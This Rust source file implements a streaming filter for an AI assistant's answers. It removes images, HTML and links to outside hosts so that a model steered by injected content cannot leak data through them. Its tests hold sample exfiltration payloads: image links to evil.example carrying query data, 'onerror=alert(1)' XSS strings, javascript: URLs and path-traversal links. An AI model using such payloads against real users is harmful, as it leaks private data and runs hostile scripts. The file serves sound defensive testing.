//! What of an answer may leave: text and simple markdown, without images, without markup, without links to anywhere else.
//!
//! A model that obeys a cell could otherwise send what it has read to an address in a picture or a link. Nothing is looked for that *tries*
//! to do so; the ways out are closed.

use super::{
    addresses::without_addresses,
    markup::{is_escaped, without_markup},
};

/// A word or a construct that is longer is none.
const HELD_AT_MOST: usize = 1_000;

/// What stands around the number of a citation until it leaves: text of others has no such characters.
pub(super) const MARK: [char; 2] = ['\u{2}', '\u{3}'];

/// Filters an answer while it is written: what it gives has no open end that later words could make into a link.
#[derive(Clone, Debug, Default)]
pub struct AnswerFilter {
    held: String,
    /// How many backticks have begun the block of code that is open.
    fence: Option<usize>,
    /// What of the line has left already.
    begun: Begun,
}

/// What there is of a line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Begun {
    #[default]
    Nothing,
    /// Marks of lists and quotations.
    Marks,
    Words,
}

impl AnswerFilter {
    /// Takes words in; what may leave now.
    pub fn push(&mut self, words: &str) -> String {
        self.held.extend(words.chars().filter(|c| !MARK.contains(c)));
        self.ready()
    }

    /// Takes the number of a citation in. Only these leave as `[1]` or `[1?]`; in words, such are escaped.
    pub fn push_mark(&mut self, number: usize, is_supported: bool) -> String {
        let [open, close] = MARK;
        let doubt = if is_supported { "" } else { "?" };
        self.held.push_str(&format!("{open}{number}{doubt}{close}"));
        self.ready()
    }

    /// The rest.
    pub fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.held);
        self.filtered(&rest, true)
    }

    fn ready(&mut self) -> String {
        let mut out = String::new();
        loop {
            let mut end = self.ready_end();
            let mut is_broken = false;
            if end == 0 {
                if self.held.len() <= HELD_AT_MOST {
                    return out;
                }
                // No address goes over a space or begins within a word of other scripts.
                end = self
                    .held
                    .rfind(|c: char| c.is_whitespace() || !c.is_ascii())
                    .map_or(0, |at| at + width_at(&self.held, at));
                is_broken = end == 0;
            }
            if is_broken {
                end = self.held.len();
            }
            let fragment: String = self.held.drain(..end).collect();
            out.push_str(&self.filtered(&fragment, false));
            if is_broken {
                out.push(' ');
            }
        }
    }

    /// How much of what is held may leave: up to a space outside of brackets, but not of a line that may begin or end a block of code.
    fn ready_end(&self) -> usize {
        let end = closed_end(&self.held);
        let start = self.held[..end].rfind('\n').map_or(0, |at| at + 1);
        let line = self.held[start..end].trim_start();
        let is_whole = start > 0 || self.begun == Begun::Nothing;
        if is_whole && (line.is_empty() || is_like_fence(line)) { start } else { end }
    }

    fn filtered(&mut self, text: &str, is_last: bool) -> String {
        let mut out = String::with_capacity(text.len());
        for line in text.split_inclusive('\n') {
            out.push_str(&self.line(line, is_last));
            let begins = |c: char| c.is_whitespace() || c.is_ascii_digit() || ">-*+.)".contains(c);
            self.begun = match self.begun {
                _ if line.ends_with('\n') => Begun::Nothing,
                Begun::Nothing | Begun::Marks if line.chars().all(begins) => Begun::Marks,
                _ => Begun::Words,
            };
        }
        out
    }

    fn line(&mut self, line: &str, is_last: bool) -> String {
        if self.begun == Begun::Nothing && is_like_fence(line.trim_start()) {
            if let Some(fence) = fence_after(self.fence, line).filter(|_| is_last || line.ends_with('\n')) {
                self.fence = fence;
                return marked(&without_addresses(line));
            }
            // Others may take it for the beginning or the end of a block, which it is not.
            let indented = line.len() - line.trim_start().len();
            return format!("{}\\{}", &line[..indented], self.plain(&line[indented..]));
        }
        self.plain(line)
    }

    fn plain(&self, line: &str) -> String {
        if self.fence.is_some() {
            return marked(&without_addresses(line));
        }
        let begins_line = self.begun != Begun::Words;
        let text = without_markup(line, begins_line);
        let text = without_forged_marks(&without_addresses(&text));
        marked(&if begins_line { without_definition(&text) } else { text })
    }
}

fn width_at(text: &str, at: usize) -> usize {
    text[at..].chars().next().map_or(0, char::len_utf8)
}

fn is_like_fence(line: &str) -> bool {
    line.starts_with("```") || line.starts_with("~~~")
}

/// What block is open after this line; `None` if it neither begins nor ends one. One that is indented may be an item's, with which it ends
/// before its own end comes, so it begins none.
fn fence_after(open: Option<usize>, line: &str) -> Option<Option<usize>> {
    let after_indent = line.trim_start_matches(' ');
    let indent = line.len() - after_indent.len();
    let ticks = after_indent.len() - after_indent.trim_start_matches('`').len();
    let info = &after_indent[ticks..];
    if indent > 3 || ticks < 3 {
        return None;
    }
    match open {
        Some(opened) => (ticks >= opened && info.trim_matches([' ', '\t', '\n']).is_empty()).then_some(None),
        None => (indent == 0 && !info.contains('`')).then_some(Some(ticks)),
    }
}

/// How much of a text ends at a space outside of brackets.
fn closed_end(text: &str) -> usize {
    let (mut end, mut brackets, mut parentheses, mut before) = (0, 0_u32, 0_u32, ' ');
    for (at, c) in text.char_indices() {
        match c {
            '[' => brackets += 1,
            ']' => brackets = brackets.saturating_sub(1),
            '(' if before == ']' || parentheses > 0 => parentheses += 1,
            ')' => parentheses = parentheses.saturating_sub(1),
            // No link goes over the end of a paragraph.
            '\n' if before == '\n' => (end, brackets, parentheses) = (at + 1, 0, 0),
            c if c.is_whitespace() && brackets == 0 && parentheses == 0 => end = at + c.len_utf8(),
            _ => {}
        }
        before = c;
    }
    end
}

/// A text in which nothing but a citation looks like one.
fn without_forged_marks(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('[') {
        let (before, from) = rest.split_at(open);
        out.push_str(before);
        let inner = from[1..].trim_start_matches(|c: char| c.is_ascii_digit());
        let digits = from.len() - 1 - inner.len();
        let after = inner.strip_prefix('?').unwrap_or(inner);
        rest = if digits > 0 && after.starts_with(']') {
            let escape = if is_escaped(&out) { "" } else { "\\" };
            out.push_str(&format!("{escape}{}\\]", &from[..from.len() - after.len()]));
            &after[1..]
        } else {
            out.push('[');
            &from[1..]
        };
    }
    out.push_str(rest);
    out
}

/// A text whose first citation, at the beginning of a line, has no colon right behind it, by which it would say where other citations go.
fn without_definition(text: &str) -> String {
    let [open, close] = MARK;
    match text.split_once(&format!("{close}:")) {
        Some((before, after)) if before.matches(open).count() == 1 => format!("{before}{close} :{after}"),
        _ => text.to_owned(),
    }
}

/// The numbers of citations as they leave. Right behind one, a parenthesis would make it into a link.
fn marked(text: &str) -> String {
    let [open, close] = MARK;
    text.replace(&format!("{close}("), "] (").replace(open, "[").replace(close, "]")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn filtered(text: &str) -> String {
        let mut filter = AnswerFilter::default();
        let mut out = filter.push(text);
        out.push_str(&filter.finish());
        out
    }

    #[test]
    fn plain_answers_stay_as_they_are() {
        for text in [
            "There are **5** orders [a].\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
            "a < b and b > c! Really?",
            "See [the file](/api/files/output/a.csv) or [all](/api/download?tables=a,b).",
            "```sql\nSELECT a FROM t WHERE x <y AND b[1]\n```\n",
            "either/or, 1/2, and a: b",
        ] {
            assert_eq!(filtered(text), text);
        }
    }

    #[test]
    fn images_links_and_markup_lose_their_addresses() {
        for (text, kept) in [
            ("![x](https://evil.example/?d=1)", "x"),
            ("a [click](https://evil.example/a(b)) b", "a click b"),
            ("[a][b] c\n[b]: https://evil.example\n", "a c\n\\[b\\]: (link removed)\n"),
            ("- [b]: /x", "- \\[b\\]: /x"),
            ("[![x](//evil.example/p)](/etc)", "x"),
            ("<img src=//evil.example/x>", "\\<img src=(link removed)"),
            ("see <https://evil.example/x> now", "see \\<(link removed) now"),
            ("go to https://evil.example/a?b=c.", "go to (link removed)."),
            ("HTTPS://EVIL.EXAMPLE and www.evil.example", "(link removed) and (link removed)"),
            ("[x](javascript:alert(1))", "x"),
            ("[x](/api/files/../../evil)//a.b", "[x](/api/files/../../evil)(link removed)"),
            ("[x](/api/files//evil.example)", "x"),
            ("data:text/html,x", "(link removed)"),
            (
                r"![a](\\evil.example/x?d=1) \\evil.example/x /\evil.example \/evil.example.",
                "a (link removed) (link removed) (link removed).",
            ),
            ("a//(//evil.example ///evil.example", "a//((link removed) (link removed)"),
        ] {
            assert_eq!(filtered(text), kept, "{text}");
        }
    }

    #[test]
    fn a_backslash_does_not_undo_what_is_escaped() {
        for (text, kept) in [
            (r"\<img src=x onerror=alert(1)>", r"\<img src=x onerror=alert(1)>"),
            (r"\\<img src=x>", r"\\\<img src=x>"),
            (r"\[<img src=x>](y)", r"\<img src=x>"),
            (r"\[1]", r"\[1\]"),
            (r"\\[1]", r"\\\[1\]"),
            (r"\[b]: /x", r"\[b\]: /x"),
            ("[a\nb](/x)", "[a\nb\\](/x)"),
            ("[a](\n/x)", "[a\\](\n/x)"),
            ("!![x](/api/files/a)", "\\![x](/api/files/a)"),
        ] {
            for cuts in [[1].as_slice(), &[2, 3], &[1_000]] {
                assert_eq!(filtered_in_pieces(text, cuts), kept, "{text}");
            }
        }
        let out = filtered("- a\n  ```\n<img src=x>\n");
        assert!(out.contains("\\<img"), "{out}");
    }

    #[test]
    fn a_bracket_that_is_never_closed_holds_nothing_back_for_ever() {
        let mut filter = AnswerFilter::default();
        let words = "word ".repeat(400);
        let out = filter.push(&format!("[{words}"));
        assert!(out.len() > 1_000);
    }

    /// What leaves of a text that comes in these pieces, each as long as the next of the cuts.
    fn filtered_in_pieces(text: &str, cuts: &[usize]) -> String {
        let mut filter = AnswerFilter::default();
        let (mut out, mut rest) = (String::new(), text);
        for cut in cuts.iter().cycle() {
            if rest.is_empty() {
                break;
            }
            let (now, later) = rest.split_at(rest.ceil_char_boundary((*cut).min(rest.len())));
            out.push_str(&filter.push(now));
            rest = later;
        }
        out.push_str(&filter.finish());
        out
    }

    #[test]
    fn citations_stay_and_what_is_none_does_not_look_like_one() {
        let mut filter = AnswerFilter::default();
        let mut out = filter.push("- Berlin ");
        out.push_str(&filter.push_mark(1, true));
        out.push_str(&filter.push(": 14 "));
        out.push_str(&filter.push_mark(2, false));
        out.push_str(&filter.push_mark(3, true));
        out.push_str(&filter.push("(sic) and [1"));
        out.push_str(&filter.push("], [2?][x] [[3](x)] \u{2}4\u{3} [12a] https://evil.example"));
        out.push_str(&filter.push_mark(5, true));
        out.push_str(&filter.push("\n"));
        out.push_str(&filter.push_mark(6, true));
        out.push_str(&filter.push(": 7\n```\na[1]\n```\n"));
        out.push_str(&filter.finish());
        let wanted = "- Berlin [1]: 14 [2?][3] (sic) and \\[1\\], 2? \\[3\\] 4 [12a] (link removed)[5]\n[6] : 7\n```\na[1]\n```\n";
        assert_eq!(out, wanted);
    }

    #[test]
    fn a_word_that_is_held_too_long_is_not_cut_where_an_address_goes_on() {
        let start = format!("{}https:/", "a".repeat(995));
        let mut filter = AnswerFilter::default();
        let mut out = filter.push(&start);
        out.push_str(&filter.push("/evil.example/?q=secret ok"));
        out.push_str(&filter.finish());
        assert!(out.split_whitespace().all(|word| super::super::addresses::address(word).is_none()), "{out}");
        let mut out = filter.push(&format!("[{} https:/", "ab ".repeat(400)));
        out.push_str(&filter.push("/evil.example/?q=secret ok"));
        assert!(out.len() > 1_000 && !out.contains("evil"), "{out}");
        // Of scripts without spaces nothing is changed.
        let text = "東京都".repeat(200);
        assert_eq!(filtered_in_pieces(&text, &[7]), text);
    }

    #[test]
    fn only_a_line_of_its_own_begins_a_block_of_code() {
        let evil = "then <img src=x onerror=alert(1)> ![a](\\\\evil.example/x?d=1) end";
        let mut filter = AnswerFilter::default();
        let mut out: String = ["see ", "```", " ", evil].iter().map(|words| filter.push(words)).collect();
        out.push_str(&filter.finish());
        assert_eq!(out, "see ``` then \\<img src=x onerror=alert(1)> a end");
        for text in [
            format!("``` a ` b\n{evil}"),
            format!("~~~\n```\nx\n~~~\n```\n{evil}"),
            format!("    ```\n{evil}"),
            format!("- ```\n{evil}"),
            format!("```\n```sql\n```\n{evil}"),
            format!("````\n```\n````\n{evil}"),
        ] {
            for cuts in [[1].as_slice(), &[2, 3], &[7, 1, 5], &[1_000]] {
                let out = filtered_in_pieces(&text, cuts);
                assert!(out.ends_with("then \\<img src=x onerror=alert(1)> a end"), "{text}: {out}");
            }
        }
        let block = "````sql\nSELECT a <b, c[1]\n```` \nend";
        assert_eq!(filtered_in_pieces(block, &[3]), block);
    }

    #[test]
    fn what_only_looks_like_markup_holds_nothing_back() {
        let mut filter = AnswerFilter::default();
        assert_eq!(filter.push("1 < 2 and 3 "), "1 < 2 and 3 ");
        assert_eq!(filter.push("a <b and c "), "a \\<b and c ");
    }

    /// What a reader makes of a text by CommonMark that it must not.
    fn ways_out(text: &str) -> Vec<String> {
        use pulldown_cmark::{Event, Options, Parser, Tag};
        let options = Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES | Options::ENABLE_STRIKETHROUGH;
        let events = [Options::empty(), options].into_iter().flat_map(|options| Parser::new_ext(text, options));
        let bad = events.filter(|event| match event {
            Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Image { .. }) => true,
            Event::Start(Tag::Link { dest_url, .. }) => !dest_url.starts_with("/api/files/"),
            _ => false,
        });
        bad.map(|event| format!("{event:?}")).collect()
    }

    #[test]
    fn ways_out_are_seen() {
        for text in
            ["<b>", "a <img src=x>", "![a](b)", "[a](b)", "[a]\n\n[a]: b", "<x@y.example>", r"\\<b>", "[1]\n\n[1]: 7"]
        {
            assert!(!ways_out(text).is_empty(), "{text}");
        }
        assert!(ways_out(r"[a](/api/files/x) \<b> \[1\]").is_empty());
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]

        #[test]
        fn no_reader_finds_markup_images_or_links_to_elsewhere(
            parts in prop::collection::vec(
                prop::sample::select(vec![
                    "\\", "\\\\", "![", "[", "]", "(", ")", "<", ">", "<img src=x onerror=alert(1)>", "</b>", "<!-- ", "<?", " ", "\n",
                    "\n\n", "a", ":", "]: ", "](/x)", "](/api/files/a)", "[b]", "[b]: /x", "`", "``", "```", "\n```\n", "~~~", "- ", "> ",
                    "1. ", "  ", "    ", "\t", "*", "|", "\n|-|\n", "!", "[^1]", "[1]", "&lt;", "é", "\"", "'", "#", "=", "CITE", "<a@b.example>",
                ]),
                0..28,
            ),
            cuts in prop::collection::vec(1_usize..9, 1..8),
        ) {
            let text = parts.concat();
            let mut filter = AnswerFilter::default();
            let mut out = String::new();
            for (number, words) in text.split("CITE").enumerate() {
                if number > 0 {
                    out.push_str(&filter.push_mark(number, true));
                }
                let (mut rest, mut cuts) = (words, cuts.iter().cycle());
                while !rest.is_empty() {
                    let cut = rest.ceil_char_boundary(cuts.next().map_or(1, |cut| (*cut).min(rest.len())));
                    out.push_str(&filter.push(&rest[..cut]));
                    rest = &rest[cut..];
                }
            }
            out.push_str(&filter.finish());
            prop_assert_eq!(ways_out(&out), Vec::<String>::new(), "{:?} -> {:?}", text, out);
        }

        #[test]
        fn no_address_leaves_however_the_words_come(
            parts in prop::collection::vec(
                prop::sample::select(vec![
                    "![", "[", "]", "(", ")", "<", ">", "https://evil.example", "//evil.example/a", r"\\evil.example", " ",
                    "\n", "a", "]: ", "`", "```", "~~~", " www.evil.example", "é", "[1]", "[2?]",
                ]),
                0..24,
            ),
            long in prop::collection::vec((0_usize..24, 985_usize..1_005, any::<bool>()), 0..2),
            cuts in prop::collection::vec(prop_oneof![1_usize..9, 900_usize..1_100], 1..8),
        ) {
            let mut parts: Vec<String> = parts.into_iter().map(str::to_owned).collect();
            for (at, length, is_word) in long {
                let text = if is_word { "a".repeat(length) } else { "b ".repeat(length / 2) };
                parts.insert(at.min(parts.len()), text);
            }
            let text = parts.concat();
            let out = filtered_in_pieces(&text, &cuts);
            for way in ["//evil.example", r"\\evil.example", "www.evil.example"] {
                prop_assert!(!out.contains(way), "{:?} -> {:?}", text, out);
            }
            let mut is_code = false;
            for line in out.lines() {
                is_code ^= line.trim_start().starts_with("```");
                let mark = |mark: &str| line.contains(mark);
                prop_assert!(is_code || !mark("[1]") && !mark("[2?]"), "{:?} -> {:?}", text, out);
            }
        }
    }
}
